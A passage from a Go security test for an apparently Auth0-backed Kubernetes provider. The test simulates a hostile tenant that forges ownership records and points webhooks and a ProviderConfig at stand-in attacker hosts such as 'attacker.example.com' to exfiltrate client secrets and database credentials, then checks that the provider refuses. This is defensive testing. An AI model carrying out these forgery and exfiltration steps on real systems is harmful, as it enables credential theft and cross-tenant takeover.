		if a["value"] != "user.created#steal" || a["outcome"] != "Refused" {
			return fmt.Errorf("last delivery action %v", a)
		}
		return nil
	})

	t.Log("forge ownership of it (its own record's proof, the old annotations), then delete it")
	now := time.Now().UTC().Format(time.RFC3339)
	forged, err := json.Marshal(map[string]any{"status": map[string]any{"ownership": map[string]any{
		"stream":        map[string]any{"id": foreign.ID, "tenant": state.Sim.Domain, "origin": "Created", "proof": proofOf},
		"replaced":      map[string]any{"id": replaced.ID, "tenant": state.Sim.Domain, "proof": proofOf},
		"createAttempt": map[string]any{"time": now, "tenant": state.Sim.Domain, "proof": proofOf},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	u.must(t, nil, "patch", "eventstream.auth0.m.openmcf.org", "intruder", "-n", ns, "--subresource=status", "--type=merge", "-p", string(forged))
	u.must(t, nil, "annotate", "eventstream.auth0.m.openmcf.org", "intruder", "-n", ns, "--overwrite",
		"auth0.m.openmcf.org/replaced-stream="+replaced.ID, "auth0.m.openmcf.org/tenant="+state.Sim.Domain, annPending+"="+now)
	got, err := getMR(ctx, ns, "intruder")
	if err != nil {
		t.Fatal(err)
	}
	if id, _, _ := unstructured.NestedString(got.Object, "status", "ownership", "stream", "id"); id != foreign.ID {
		t.Fatalf("the forged status was not stored: %v", got.Object["status"])
	}
	deleteMR(t, ns, "intruder")
	mustSimStream(t, foreign.ID)
	mustSimStream(t, replaced.ID)
	noWritesTo(t, foreign.ID, "after a tenant forged ownership of it")
	noWritesTo(t, replaced.ID, "after a tenant forged a record of replacing it")

	t.Log("forge a replaced stream on its own resource, then delete it: only its own stream goes")
	forged, err = json.Marshal(map[string]any{"status": map[string]any{"ownership": map[string]any{
		"replaced": map[string]any{"id": replaced.ID, "tenant": state.Sim.Domain, "proof": proofOf},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	u.must(t, nil, "patch", "eventstream.auth0.m.openmcf.org", "own", "-n", ns, "--subresource=status", "--type=merge", "-p", string(forged))
	u.must(t, nil, "annotate", "eventstream.auth0.m.openmcf.org", "own", "-n", ns, "--overwrite", "auth0.m.openmcf.org/replaced-stream="+replaced.ID)
	deleteMR(t, ns, "own")
	simGone(t, ownID)
	mustSimStream(t, replaced.ID)
	noWritesTo(t, replaced.ID, "after a tenant forged a record of replacing it")

	t.Log("forge a create attempt next to a look-alike made now: a new stream, the look-alike untouched")
	lookAlike := ns + "-look-alike"
	lookEndpoint := "https://hooks.example.com/" + ns + "-look-alike"
	look := simCreate(t, lookAlike, lookEndpoint, "user.created")
	u.must(t, mr(ns, lookAlike, webhookDest(lookEndpoint, "arrives-later"), ""), "create", "-f", "-")
	waitMR(t, ns, lookAlike, "waiting for its Secret", syncedFalse("cannot get a webhook authorization Secret"))
	now = time.Now().UTC().Format(time.RFC3339)
	forged, err = json.Marshal(map[string]any{"status": map[string]any{"ownership": map[string]any{
		"createAttempt": map[string]any{"time": now, "tenant": state.Sim.Domain, "proof": proofOf},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	u.must(t, nil, "patch", "eventstream.auth0.m.openmcf.org", lookAlike, "-n", ns, "--subresource=status", "--type=merge", "-p", string(forged))
	u.must(t, nil, "annotate", "eventstream.auth0.m.openmcf.org", lookAlike, "-n", ns, "--overwrite", annPending+"="+now)
	u.must(t, secretManifest(ns, "arrives-later", "editor-token"), "create", "-f", "-")
	made := waitMR(t, ns, lookAlike, "Ready", mrReady)
	if id := made.GetAnnotations()[annExternal]; id == look.ID {
		t.Errorf("adopted the look-alike %s on a forged create attempt", look.ID)
	}
	noWritesTo(t, look.ID, "after a tenant forged a create attempt")
	deleteMR(t, ns, lookAlike)
	mustSimStream(t, look.ID)
	noWritesTo(t, look.ID, "after the resource that forged a create attempt was deleted")

	t.Log("a ProviderConfig of its own naming a host outside --auth0-domains")
	const clientSecret = "editor-client-secret"
	u.must(t, fmt.Appendf(nil, `apiVersion: v1
kind: Secret
metadata: {name: collector, namespace: %[1]s}
stringData: {domain: collector.attacker.example, clientId: c, clientSecret: %[2]s}
---
apiVersion: auth0.m.openmcf.org/v1alpha1
kind: ProviderConfig
metadata: {name: collector, namespace: %[1]s}
spec:
  importPolicy: Manage
  credentials: {source: Secret, secretRef: {name: collector}}
`, ns, clientSecret), "create", "-f", "-")
	u.must(t, mr(ns, "other-host", eventBridgeDest("us-east-1"), "\n  providerConfigRef: {kind: ProviderConfig, name: collector}"), "create", "-f", "-")
	m := waitMR(t, ns, "other-host", "refusal", syncedFalse("ProviderConfig "+ns+"/collector", `"collector.attacker.example" is not one the provider may call`, "--auth0-domains"))
	if _, _, msg := condition(m, "Synced"); strings.Contains(msg, clientSecret) {
		t.Errorf("the condition holds the client secret")
	}
	deleteMR(t, ns, "other-host")

	t.Log("a ClusterProviderConfig that does not select its namespace")
	pc := ns + "-elsewhere-only"
	mustKubectl(t, fmt.Appendf(nil, `apiVersion: auth0.m.openmcf.org/v1alpha1
kind: ClusterProviderConfig
metadata: {name: %s}
spec:
  importPolicy: Manage
  namespaceSelector:
    matchLabels: {kubernetes.io/metadata.name: elsewhere}
  credentials:
    source: Secret
    secretRef: {namespace: crossplane-system, name: %s}
`, pc, controlplane.CredentialsSecret), "apply", "-f", "-")
	t.Cleanup(func() {
		_, _ = kubectl(context.Background(), nil, "delete", "clusterproviderconfig.auth0.m.openmcf.org", pc, "--wait=false")
	})
	u.must(t, mr(ns, "borrowed", webhookDest("https://attacker.example.com/"+ns, "tok"), "\n  providerConfigRef: {kind: ClusterProviderConfig, name: "+pc+"}", annExternal+": "+foreign.ID), "create", "-f", "-")
	waitMR(t, ns, "borrowed", "refusal", syncedFalse("ClusterProviderConfig "+pc+" may not be used in namespace "+ns, "spec.namespaceSelector"))
	deleteMR(t, ns, "borrowed")
	noWritesTo(t, foreign.ID, "after a tenant named it through a ClusterProviderConfig that allows imports elsewhere")

	t.Log("an unlabelled Secret")
	value := unofferedSecret(t, ns, "db-creds")
	u.must(t, []byte(strings.Replace(string(mr(ns, "unoffered", webhookDest("https://attacker.example.com/"+ns, "db-creds"), "")), "key: token", "key: password", 1)), "create", "-f", "-")
	waitMR(t, ns, "unoffered", "refusal", syncedFalse("db-creds", "auth0.m.openmcf.org/webhook-secret"))
	deleteMR(t, ns, "unoffered")
	notInSimulator(t, value, "editor-client-secret")
	notInCluster(t, ns, value, mrGVR)
}
